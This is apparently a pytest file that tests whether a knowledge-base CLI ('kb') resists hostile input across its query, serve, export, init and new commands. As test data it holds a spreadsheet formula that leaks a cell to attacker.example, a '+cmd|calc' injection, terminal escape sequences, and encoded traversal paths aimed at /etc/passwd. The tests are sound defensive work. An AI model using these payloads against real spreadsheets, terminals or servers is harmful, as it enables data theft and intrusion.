"""What kb writes and serves cannot attack where it lands, and bad input is a clear refusal, never an
internal error (issue 41, items 6 and 7; probes P18, L01b, G06, I06.bytes, D03, K03.13, K03.14/K04, V02):

- `kb query --format csv` neutralises a cell a spreadsheet would run as a formula, and its text table shows a
  record's escape sequences as text;
- kb serve answers a path that is no UTF-8 or too long for a file name with an HTTP error, printing nothing,
  and warns when it listens beyond this machine;
- `kb export` takes a directory for its own output only by kb's mark, and makes no directory it was not named;
- `kb init` refuses a title or directory name that is not UTF-8 text before it writes anything;
- a kb.toml that gives records, schema and site one directory is KB120 at its line;
- kb new writes no record through a records or type directory that leads out of the repository.

Each test here fails on the kb before these fixes (77a6de1).
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
from collections.abc import Callable
from pathlib import Path

import pytest
import test_hostile_site
from conftest import KB_SCRIPT, run_kb, signals_at_default
from site_support import Served
from test_hostile_site import assert_clean, finish, get

# the fixture of tests/test_hostile_site.py: the development server in this process, over a site kb built
server = test_hostile_site.server

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def tree(directory: Path) -> dict[str, bytes | None]:
    """Every entry under `directory` (links not followed): a file's bytes, None for a directory or a link."""
    found: dict[str, bytes | None] = {}
    for path in sorted(directory.rglob("*")):
        rel = path.relative_to(directory).as_posix()
        found[rel] = path.read_bytes() if path.is_file() and not path.is_symlink() else None
    return found


def refused(result, command: str) -> bool:
    """A refusal as a user should see one: exit 2, a one-line message, no internal error nor traceback."""
    shown = result.err + result.out
    return (
        result.exit_code == 2 and f"kb {command}: " in result.err and "KB900" not in shown and "Traceback" not in shown
    )


# ---------------------------------------------------------------- kb query: CSV and the text table (P18)


def hostile_sources(kb) -> None:
    """A source named like a formula, and one whose publisher clears the screen and retitles the terminal."""
    for id_, name, publisher in (
        ("formula", "'" + FORMULA.replace("'", "''") + "'", "'+cmd|calc'"),
        ("screen", "Screen", '"Vendor\\e[2J\\e]0;owned\\a"'),
    ):
        kb.write(
            f"records/sources/{id_}.md",
            f"---\nid: {id_}\ntype: source\nname: {name}\nstatus: draft\nconfidence: 0.5\nupdated: 2026-11-29\n"
            f"kind: docs\norigin: first-party\npublisher: {publisher}\nurl: https://example.org/{id_}\n---\nA source.\n",
            dedent=False,
        )


def test_query_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(kb):
    hostile_sources(kb)
    result = kb.run("query", "type:source", "--fields", "publisher", "--format", "csv")
    assert result.exit_code == 0, result.err
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(result.out))}
    assert rows["sources/formula"]["name"] == "'" + FORMULA  # shown as text, the formula in full
    assert rows["sources/formula"]["publisher"] == "'+cmd|calc"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row


def test_query_text_table_shows_a_records_escape_sequences_as_text(kb):
    hostile_sources(kb)
    result = kb.run("query", "type:source", "--fields", "publisher")
    assert result.exit_code == 0, result.err
    assert "\x1b" not in result.out and "\x07" not in result.out
    line = next(line for line in result.out.splitlines() if line.startswith("sources/screen"))
    assert "Vendor\\x1b[2J\\x1b]0;owned\\x07" in line
    # the columns stay aligned: each cell padded by the width it is shown with
    header = result.out.splitlines()[0]
    assert header.index("publisher") == line.index("Vendor")


# ---------------------------------------------------------------- kb serve (L01b, V02)


PATHS_NO_FILE_CAN_HAVE = [
    "/%ff%fe",  # no UTF-8
    "/..%c0%af..",  # an overlong UTF-8 slash
    "/..%c0%af../..%c0%af../etc/passwd",
    "/%ed%a0%80.html",  # an encoded surrogate
    "/" + "a" * 300 + ".html",  # a name over NAME_MAX (255 bytes)
    "/" + "a" * 300 + "/",
    "/static/" + "a" * 300,
    "/" + "%C3%A9" * 200 + ".html",  # 400 bytes once decoded
    "/" + ("a" * 200 + "/") * 30 + "index.html",  # a path over PATH_MAX (4,096 bytes)
]


def test_serve_answers_a_path_no_file_can_have_with_an_http_error_and_prints_nothing(server, capsys):
    port = server.server_address[1]
    for path in PATHS_NO_FILE_CAN_HAVE:
        status, body = get(port, path)  # a closed connection (no answer) raises here
        assert status in (400, 404, 414), (path[:40], status)
        assert len(body) < 2000 and b"Traceback" not in body and b"Errno" not in body, path[:40]
    assert get(port, "/index.html")[0] == 200  # still serving
    err = finish(server, capsys)
    assert_clean(err)
    assert err == ""  # nothing on the terminal: no "a request failed", no OSError


def served_lines(root: Path, *more: str, then: Callable[[Served], object] = lambda running: None) -> list[str]:
    """What `kb serve --port 0 MORE` prints (stdout and stderr) until it says where it serves and `then` has
    run; then it is stopped."""
    command = [KB_SCRIPT, "--root", str(root), "serve", "--port", "0", "--no-search", *more]
    running = Served(command, patience=120, preexec_fn=signals_at_default(signal.SIGINT))  # for stop()'s Ctrl-C
    try:
        running.wait_for(r"^serving .* at http://")
        then(running)
    finally:
        assert running.stop() == 0
    return running.lines


@pytest.mark.slow
def test_serve_warns_when_it_listens_beyond_this_machine_and_only_then(kb):
    kb.source()
    exposed = served_lines(kb.root, "--host", "0.0.0.0")
    warned = [line for line in exposed if line.startswith("kb serve: warning: listening on 0.0.0.0")]
    assert len(warned) == 1, exposed
    assert "every network interface" in warned[0] and "drafts" in warned[0] and "--host 127.0.0.1" in warned[0]
    assert not any("warning: listening" in line for line in served_lines(kb.root)), "warned on loopback"


@pytest.mark.slow
def test_serve_shows_an_escape_sequence_in_a_saved_files_name_as_text(kb):
    kb.source()
    name = "records/sources/x\x1b[2J\x1b]0;owned\x07.md"

    def save(running: Served) -> None:
        seen = len(running.lines)
        kb.write(name, "---\nid: x\n---\n")
        running.wait_for(r"^changed: ", after=seen)
        running.wait_for(r"^checked ", after=seen)  # the rebuild's report, which names the file too

    lines = served_lines(kb.root, then=save)
    assert not any(c in line for line in lines for c in "\x1b\x07"), lines
    assert "changed: records/sources/x\\x1b[2J\\x1b]0;owned\\x07.md; rebuilding" in lines


# ---------------------------------------------------------------- kb export (G06, D03)


def test_export_frontmatter_keeps_a_directory_whose_manifest_kb_did_not_write(kb, tmp_path):
    """The probe: a committed `.kb-site.json` listing the user's own files made kb take the directory for its
    own output and replace it."""
    kb.source()
    docs = tmp_path / "docs-pr"
    (docs / "img").mkdir(parents=True)
    (docs / "guide.md").write_text("# Guide\n")
    (docs / "img" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\nlogo")
    (docs / ".kb-site.json").write_text('{"files": ["guide.md", "img/logo.png", ".kb-site.json"]}\n')
    before = tree(docs)
    for command in (("export", "--frontmatter", str(docs)), ("build", "--no-search", "--out", str(docs))):
        result = kb.run(*command)
        assert refused(result, command[0]), (command, result.err)
        assert "holds files kb did not write" in result.err and "guide.md" in result.err
        assert tree(docs) == before, command
    assert sorted(p.name for p in tmp_path.iterdir()) == ["docs-pr", "kb"]  # no staging left beside it
    # a directory kb wrote, its manifest marked, is still kb's to replace
    out = tmp_path / "frontmatter"
    assert kb.run("export", "--frontmatter", str(out)).exit_code == 0
    kb.source("src-b")
    assert kb.run("export", "--frontmatter", str(out)).exit_code == 0
    assert sorted(p.name for p in (out / "sources").iterdir()) == ["src-a.yaml", "src-b.yaml"]


@pytest.mark.parametrize("option", ["--json", "--sqlite", "--frontmatter"])
def test_export_makes_no_directory_it_was_not_named(kb, tmp_path, option):
    kb.source()
    target = tmp_path / "no" / "such" / "dir" / ("out" if option == "--frontmatter" else "x.db")
    result = kb.run("export", option, str(target))
    assert refused(result, "export"), result.err
    assert f"{tmp_path / 'no' / 'such' / 'dir'} does not exist" in result.err
    assert not (tmp_path / "no").exists()


def test_export_refuses_a_path_below_a_file(kb, tmp_path):
    kb.source()
    (tmp_path / "notes").write_text("mine\n")
    result = kb.run("export", "--json", str(tmp_path / "notes" / "x.json"))
    assert refused(result, "export") and "notes is not a directory" in result.err
    assert (tmp_path / "notes").read_text() == "mine\n"


# ---------------------------------------------------------------- kb init (I06.bytes)


@pytest.mark.parametrize(
    "title, shown",
    [
        ("caf\udce9", "caf\\xe9"),  # `kb init --title $'caf\xe9'`: Latin-1 bytes, as the shell passes them
        ("a\x7fb", "a\\x7fb"),  # DEL: no TOML string may hold it raw
        ("two\nlines", "two\\nlines"),
        ("x\x1b[2J", "x\\x1b[2J"),
    ],
)
def test_init_refuses_a_title_that_is_no_line_of_utf8_text_before_writing_anything(tmp_path, title, shown):
    target = tmp_path / "kb"
    result = run_kb("init", str(target), "--title", title)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"kb init: --title '{shown}' ") and "nothing was written" in result.stderr
    assert "KB900" not in result.stderr and not target.exists()


def test_init_refuses_a_blank_title(tmp_path):
    result = run_kb("init", str(tmp_path / "kb"), "--title", "  ")
    assert result.returncode == 2 and result.stderr.startswith("kb init: --title is empty")
    assert not (tmp_path / "kb").exists()


def test_init_refuses_a_directory_name_that_is_not_utf8_before_writing_anything(tmp_path):
    target = tmp_path / "caf\udce9"
    for args in ((str(target),), (str(target), "--title", "Fine")):
        result = run_kb("init", *args)
        assert result.returncode == 2, result.stderr
        assert "caf\\xe9' is not UTF-8 text" in result.stderr and "KB900" not in result.stderr
        assert os.listdir(tmp_path) == []


def test_init_refuses_a_directory_named_with_escape_sequences(tmp_path):
    result = run_kb("init", str(tmp_path / "kb\x1b[2J"))
    assert result.returncode == 2 and "kb\\x1b[2J' holds control characters" in result.stderr
    assert "\x1b" not in result.stderr and os.listdir(tmp_path) == []


def test_init_refuses_a_default_title_from_a_parent_named_in_another_encoding(tmp_path):
    """`kb init` in the directory itself: the title comes from its name, which is not UTF-8."""
    target = tmp_path / "caf\udce9"
    target.mkdir()
    result = run_kb("init", cwd=target)
    assert result.returncode == 2 and "the directory's name" in result.stderr and "pass --title" not in result.stderr
    assert os.listdir(target) == []
    assert run_kb("init", "--title", "Café", cwd=target).returncode == 0  # named, it is fine
    assert 'title = "Caf\\u00e9"' in (target / "kb.toml").read_text()


# ---------------------------------------------------------------- kb.toml: one directory for two (K03)


@pytest.mark.parametrize(
    "setting, key, other",
    [
        ('site = "records"', "site", "records"),
        ('site = "schema"', "site", "schema"),
        ('records = "schema"', "records", "schema"),
        ('records = "site"', "records", "site"),
        ('schema = "records"', "schema", "records"),
    ],
)
def test_a_directory_given_to_two_of_records_schema_and_site_is_kb120_at_its_line(kb, setting, key, other):
    kb.source()
    kb.write("kb.toml", f'title = "T"\n{setting}\n')
    for command in ("check", "build"):
        result = kb.run(command, *(("--no-search",) if command == "build" else ()))
        assert result.exit_code == 1, (command, result.out, result.err)
        found = [l for l in result.out.splitlines() if " KB120 " in l]
        assert len(found) == 1 and found[0].startswith(f"kb.toml:2:1: error KB120 {key} = "), found
        assert f"is the {other} directory too" in found[0]
        assert "KB900" not in result.out + result.err
    assert not list(kb.root.rglob("_build"))  # no site built, inside the records or anywhere


def test_one_name_given_to_records_and_site_is_kb120_at_the_later_and_swapped_names_are_fine(kb):
    kb.source()
    (kb.root / "records").rename(kb.root / "notes")
    kb.write("kb.toml", 'records = "notes"\ntitle = "T"\nsite = "notes"\n')
    result = kb.check()
    assert result.exit_code == 1
    assert [l for l in result.lines if " KB120 " in l] == [
        "kb.toml:3:1: error KB120 site = 'notes' is the records directory too (notes/); give site one of its own"
    ]
    # records = "site" and site = "records": two names, each a directory of its own
    (kb.root / "notes").rename(kb.root / "site")
    kb.write("kb.toml", 'records = "site"\nsite = "records"\n')
    result = kb.check()
    assert result.exit_code == 0 and "KB120" not in result.out, result.out


# ---------------------------------------------------------------- kb new through a link out (K03.14, K04)


@pytest.mark.parametrize("linked", ["records", "records/sources"])
def test_new_writes_no_record_through_a_directory_that_leads_out_of_the_repository(kb, tmp_path, linked):
    kb.source()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "sources").mkdir()
    (elsewhere / "sources" / "src-a.md").write_bytes((kb.root / "records/sources/src-a.md").read_bytes())
    link = kb.root / linked
    if linked == "records":
        (kb.root / "records" / "sources" / "src-a.md").unlink()
        (kb.root / "records" / "sources").rmdir()
        link.rmdir()
        link.symlink_to(elsewhere)
    else:
        (kb.root / "records" / "sources" / "src-a.md").unlink()
        link.rmdir()
        link.symlink_to(elsewhere / "sources")
    before = tree(elsewhere)
    result = kb.run("new", "source", "--name", "Outside")
    assert refused(result, "new"), result.err
    assert f"{linked}/ leads outside the repository (to {elsewhere}" in result.err
    assert tree(elsewhere) == before
    # a directory linked inside the repository is the repository's own
    link.unlink()
    inside = kb.root / "kept" / "sources"
    inside.mkdir(parents=True)
    link.symlink_to(kb.root / "kept" / ("sources" if linked != "records" else ""))
    assert kb.run("new", "source", "--name", "Inside").exit_code == 0
    assert (inside / "inside.md").is_file()


def test_no_writer_of_records_writes_through_a_records_directory_that_leads_out(kb, tmp_path):
    """kb fmt, kb mv and kb measure hold the same writers' lock as kb new, and the lock refuses a records
    directory that is a link out of the repository: each refuses before it changes or measures anything."""
    kb.source()
    kb.write(
        "records/engines/e.md",
        "---\nid: e\ntype: engine\nname:   E\nstatus: draft\nconfidence: 0.5\n"
        "updated: 2026-11-29\nsources: [src-a]\n---\nAn engine, [[src-a]].\n",
    )
    elsewhere = tmp_path / "elsewhere"
    shutil.move(str(kb.root / "records"), str(elsewhere))
    (kb.root / "records").symlink_to(elsewhere)
    before = tree(elsewhere)
    for args in (
        ("fmt",),
        ("mv", "engines/e", "e2"),
        ("measure", "memory", "--max-seconds", "0.1", "--max-bytes", "1 MiB"),
    ):
        result = kb.run(*args)
        assert refused(result, args[0]), (args, result.err)
        assert "records/ leads outside the repository" in result.err
        assert tree(elsewhere) == before, args
